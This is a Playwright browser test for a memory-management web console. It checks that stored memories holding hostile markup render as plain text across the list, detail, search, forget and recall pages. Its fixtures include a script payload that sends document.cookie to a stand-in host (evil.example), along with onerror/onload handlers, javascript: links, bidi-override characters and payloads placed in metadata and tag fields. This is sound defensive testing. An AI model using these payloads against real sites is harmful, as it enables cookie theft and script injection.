import type { Page } from 'playwright-core'
import { consoleTest, hasCount, hasNoViolation, signInAs } from '../browser.js'

/** Memories that would have an effect if they were not shown as text. All of them contain the word `hostile`. */
const HOSTILE = [
  'hostile <script>alert(1); fetch("https://evil.example/" + document.cookie)</script>',
  'hostile <img src="https://evil.example/x.png" onerror="alert(1)"><iframe ' +
    'srcdoc="<script>alert(1)</script>"></iframe>',
  'hostile <svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'hostile [click](javascript:alert(1)) https://evil.example/?q=secret data:text/html,<script>alert(1)</script>',
  'hostile transfer \u202e0001\u202c to \u2066x\u2069 pay\u200bpal\u200d \u{e0041}\u{e0042} \ufeff end',
  `hostile ${'</div></bdi>'.repeat(20)}<style>*{display:none}</style>`,
  `hostile a${'\u0301'.repeat(200)} zalgo`,
  `hostile ${'long '.repeat(9990)}`.slice(0, 50_000),
  `hostile ${'x'.repeat(49_000)}`,
]
const METADATA = { '<b>k</b>': '<script>alert(1)</script>', __proto__x: '\u202e' }

async function isHarmless (page: Page): Promise<boolean> {
  const made = 'main script, main img, main iframe, main svg, main style, main a[href^="javascript"], main ' +
    'a[href^="http"]'
  return await page.locator(made).count() === 0
}

consoleTest('hostile memories are shown as text on two pages', {}, async (t, { page, url, client }) => {
  const ids: string[] = []
  for (const content of HOSTILE) {
    const { memory_id: id } = await client().retain({
      bank_id: 'user-alice',
      content,
      document_id: '"><script>alert(1)</script>\u202e',
      source: '<img src=x onerror=alert(1)>',
      tags: ['<svg onload=alert(1)>', 'a\u200bb'],
      metadata: METADATA,
    })
    ids.push(id)
  }
  t.equal(new Set(ids).size, HOSTILE.length)
  await page.goto(url('memories?bank=user-alice'))
  await signInAs(page, 'user:alice')
  const list = page.getByRole('listbox', { name: 'Memories' })
  await list.getByText('<script>alert(1); fetch(').waitFor()
  t.ok(await isHarmless(page), 'the list')
  await hasNoViolation(t, page, 'a list of hostile memories')
  for (const [index, id] of ids.entries()) {
    await page.goto(url(`memories?bank=user-alice&memory=${id}`))
    await signInAs(page, 'user:alice')
    await page.locator('.memories-content').waitFor()
    t.ok(await isHarmless(page), `memory ${index}`)
  }
  await page.goto(url(`memories?bank=user-alice&memory=${ids[4] ?? ''}`))
  await signInAs(page, 'user:alice')
  const content = page.locator('.memories-content')
  await content.getByText('U+202E right-to-left override').waitFor()
  await content.getByText('U+200B zero-width space').waitFor()
  t.ok(await content.getByText('tag character').count() >= 2)
  await hasNoViolation(t, page, 'a hostile memory')
  await page.goto(url(`memories?bank=user-alice&memory=${ids[8] ?? ''}`))
  await signInAs(page, 'user:alice')
  await page.locator('.memories-content').getByRole('button', { name: /^Show all/ }).click()
  await page.waitForFunction(() => (document.querySelector('.memories-content')?.textContent?.length ?? 0) > 49_000)
  const beyond = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
  t.ok(beyond <= 0, `one long word makes the page ${beyond} pixels too wide`)

  await page.locator('.memories-view').getByRole('button', { name: 'Forget…' }).click()
  await page.getByText('1 memory would be forgotten').waitFor()
  t.ok(await isHarmless(page), 'what would go')
  await page.keyboard.press('Escape')
  await page.getByLabel('Words').fill('hostile')
  await page.keyboard.press('Enter')
  await page.getByRole('listbox', { name: 'Memories found' }).waitFor()
  t.ok(await isHarmless(page), 'what is found')

  await page.goto(url('recall?bank=user-alice'))
  await signInAs(page, 'user:alice')
  await page.getByLabel('Query').fill('hostile <script>alert(1)</script>')
  await page.keyboard.press('Enter')
  await page.locator('.recall-hit').first().waitFor()
  await hasCount(t, page.locator('.recall-hit'), HOSTILE.length)
  t.ok(await isHarmless(page), 'the recall lab')
  await page.getByRole('button', { name: 'Explain hit 1' }).click()
  await page.locator('.recall-explanation').waitFor()
  t.ok(await isHarmless(page), 'an explanation')
  await hasNoViolation(t, page, 'a hostile recall')
})
